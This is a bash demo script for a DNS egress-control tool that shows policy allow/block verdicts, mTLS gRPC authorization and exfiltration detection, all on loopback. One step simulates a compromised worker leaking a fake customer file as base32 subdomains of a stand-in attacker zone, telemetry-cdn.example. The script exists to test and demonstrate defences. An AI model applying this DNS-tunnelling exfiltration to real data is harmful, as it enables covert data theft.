#!/usr/bin/env bash
# What `make demo` runs: kordon dev on examples/dev with the project's own
# authoritative server as the loopback upstream, real DNS queries from the
# shop's workloads (dig -b 127.0.0.X), a simulated exfiltration from the
# compromised worker, and the alert it raises. Everything listens on
# 127.0.0.1 with ports picked free; everything started here is stopped on
# exit, and the demo ends by itself within a minute.
set -euo pipefail
cd "$(dirname "$0")/.."

KORDON=${KORDON:-bin/kordon}
CONFIG=${CONFIG:-examples/dev}
ZONES=${ZONES:-examples/upstream/zones.yaml}
# Bounds every wait, so the demo never hangs.
WAIT_STEPS=${WAIT_STEPS:-200}

if [ ! -x "$KORDON" ]; then
	echo "demo: $KORDON not found: run make demo (it builds first)" >&2
	exit 1
fi
command -v dig >/dev/null || ./hack/install-deps.sh

work=$(mktemp -d "${TMPDIR:-/tmp}/kordon-demo.XXXXXX")
pids=()
cleanup() {
	local rc=$?
	stop_pids
	fail_log "$rc" "$work/dev.err"
	rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# shellcheck source=hack/lib.sh
. hack/lib.sh

# http_get HOST:PORT PATH: a GET with bash alone (no curl needed); prints
# the body, fails unless the status is 200.
http_get() {
	local host=${1%:*} port=${1##*:} status body
	exec 3<>"/dev/tcp/$host/$port" || return 1
	printf 'GET %s HTTP/1.0\r\nHost: %s\r\n\r\n' "$2" "$1" >&3
	body=$(cat <&3)
	exec 3<&-
	status=$(printf '%s' "$body" | head -n1 | cut -d' ' -f2)
	printf '%s' "$body" | sed '1,/^\r$/d'
	[ "$status" = 200 ]
}

addr_of() { sed -n "s/^$2=//p" "$1"; }

# ask NAME WORKLOAD IP [TYPE]: one real query from the workload's source
# address, shown as dig shows it: status, Extended DNS Error, answers.
asked=0
ask() {
	local name=$1 who=$2 ip=$3 type=${4:-A}
	asked=$((asked + 1))
	printf '%s$ dig -b %s @%s -p %s %s %s%s   %s# as %s%s\n' "$bold" "$ip" "$DNS_HOST" "$DNS_PORT" "$name" "$type" "$off" "$dim" "$who" "$off"
	dig -b "$ip" @"$DNS_HOST" -p "$DNS_PORT" +time=2 +tries=1 +noall +comments +answer "$name" "$type" |
		grep -E 'status:|EDE:|IN[[:space:]]+(A|AAAA|CNAME|TXT|MX)[[:space:]]' | sed -e 's/^;; ->>HEADER<<- opcode: QUERY, \(status: [A-Z]*\),.*/\1/' -e 's/^/    /'
}

step "Starting the loopback upstream (the project's own authoritative DNS server)"
"$KORDON" dev upstream --zones "$ZONES" --dns-listen 127.0.0.1:0 --addr-file "$work/upstream.addr" >"$work/upstream.out" 2>"$work/upstream.err" &
pids+=($!)
wait_for test -s "$work/upstream.addr"
UPSTREAM=$(addr_of "$work/upstream.addr" dns)
sed 's/^/  /' "$work/upstream.out"

step "Starting kordon dev --config $CONFIG"
"$KORDON" dev --config "$CONFIG" --upstream "$UPSTREAM" \
	--dns-listen 127.0.0.1:0 --http-listen 127.0.0.1:0 --xds-listen 127.0.0.1:0 \
	--state-dir "$work/state" --addr-file "$work/dev.addr" --query-log "$work/queries.log" \
	>"$work/dev.out" 2>"$work/dev.err" &
pids+=($!)
wait_for test -s "$work/dev.addr"
HTTP=$(addr_of "$work/dev.addr" http)
DNS=$(addr_of "$work/dev.addr" dns)
XDS=$(addr_of "$work/dev.addr" xds)
DNS_HOST=${DNS%:*}
DNS_PORT=${DNS##*:}
wait_for http_get "$HTTP" /readyz
sed 's/^/  /' "$work/dev.out"

step "Allowed: each workload resolves what its EgressPolicy allows"
ask api.shop.example frontend 127.0.0.10
ask img.cdn.shopassets.example frontend 127.0.0.10
ask api.paygate.example payments 127.0.0.12

step "Blocked: NXDOMAIN with an Extended DNS Error naming the policy"
ask tracker.adnet.example frontend 127.0.0.10
ask eu.sandbox.paygate.example payments 127.0.0.12

step "Audit: checkout's new allow list answers normally and logs what it would block"
ask collect.analytics.example checkout 127.0.0.11

step "No policy: catalog is not selected by any EgressPolicy, so it resolves anything (and is logged)"
ask collect.analytics.example catalog 127.0.0.14

step "The query log: one JSON object per query (who asked, what, verdict, policy)"
note "(from --query-log; the last three lines)"
# The log is written in batches: wait (bounded) until every query is in.
for _ in $(seq "$WAIT_STEPS"); do
	[ "$(wc -l <"$work/queries.log")" -ge "$asked" ] && break
	sleep 0.05
done
tail -n 3 "$work/queries.log" | sed 's/^/  /'

step "Mesh: gRPC calls between workloads, mTLS with SVIDs from kordon's CA, RBAC pushed over xDS"
note "payments serves on 127.0.0.12:8082 as a proxyless gRPC xDS server; its listener, certificates and policy come from kordon dev"
# bootstrap WORKLOAD: the grpc-go xDS bootstrap of one shop workload, with
# the SVID files kordon dev wrote for it.
bootstrap() {
	local d="$work/state/svids/shop/$1"
	"$KORDON" xds bootstrap --xds "$XDS" --node "shop/$1" --insecure-xds --refresh 1s \
		--cert "$d/svid.pem" --key "$d/svid_key.pem" --ca "$d/bundle.pem"
}
GRPC_XDS_BOOTSTRAP_CONFIG="$(bootstrap payments)" "$KORDON" dev grpc-serve --listen 127.0.0.12:8082 >"$work/payments.out" 2>"$work/payments.err" &
pids+=($!)
printf '%s$ kordon dev grpc-call --target payments.shop:8082%s   %s# as checkout (spiffe://cluster.local/ns/shop/sa/checkout)%s\n' "$bold" "$off" "$dim" "$off"
GRPC_XDS_BOOTSTRAP_CONFIG="$(bootstrap checkout)" "$KORDON" dev grpc-call --target payments.shop:8082 --expect OK 2>"$work/grpc.err" | sed 's/^/    /'
printf '%s$ kordon dev grpc-call --target payments.shop:8082%s   %s# as report-worker%s\n' "$bold" "$off" "$dim" "$off"
GRPC_XDS_BOOTSTRAP_CONFIG="$(bootstrap report-worker)" "$KORDON" dev grpc-call --target payments.shop:8082 --expect PermissionDenied 2>>"$work/grpc.err" | sed 's/^/    /'

step "Exfiltration: the compromised report-worker (127.0.0.13) leaks a fake customer file over DNS"
note "base32 chunks of the file as subdomains of telemetry-cdn.example (the upstream answers every one, as an attacker's server would)"
"$KORDON" dev exfil-sim --server "$DNS" --source 127.0.0.13 --zone telemetry-cdn.example --bytes 6000 | sed 's/^/  /'

step "The alert feed: kordon alerts --server http://$HTTP"
alerts=""
for _ in $(seq "$WAIT_STEPS"); do
	alerts=$("$KORDON" alerts --server "http://$HTTP" --kind exfiltration 2>/dev/null || true)
	[ "$(printf '%s\n' "$alerts" | grep -c telemetry-cdn.example)" -gt 0 ] && break
	sleep 0.05
done
if ! printf '%s\n' "$alerts" | grep -q telemetry-cdn.example; then
	echo "demo: no exfiltration alert in the feed" >&2
	exit 1
fi
printf '%s\n' "$alerts" | sed 's/^/  /'
note "every alert as JSON (the stable schema), the newest:"
"$KORDON" alerts --server "http://$HTTP" --kind exfiltration --limit 1 -o json | sed 's/^/  /'

step "Quarantine (shop/batch-watch: action Quarantine): the worker can no longer resolve that domain; others still can"
ask "backup.telemetry-cdn.example" report-worker 127.0.0.13
ask "backup.telemetry-cdn.example" catalog 127.0.0.14

step "What to look at next"
cat <<EOF
  kordon dev --config $CONFIG --upstream-zones $ZONES    # run it yourself (DNS on 127.0.0.1:5353, HTTP on 127.0.0.1:9080)
  dig -b 127.0.0.10 @127.0.0.1 -p 5353 tracker.adnet.example   # ask as the frontend
  edit $CONFIG/egress.yaml                                     # applied live; a typo is reported with file:line:col
  kordon alerts --server http://127.0.0.1:9080 --follow           # the alert feed, live
  open http://127.0.0.1:9080/ui/                                  # the web console: alerts, quarantines, egress, explain
  curl -s 127.0.0.1:9080/v1/quarantines                           # what is quarantined (DELETE /v1/quarantines/ID lifts it)
  curl -s 127.0.0.1:9080/metrics | grep '^kordon_'
EOF
echo
echo "demo done: everything it started is stopped."
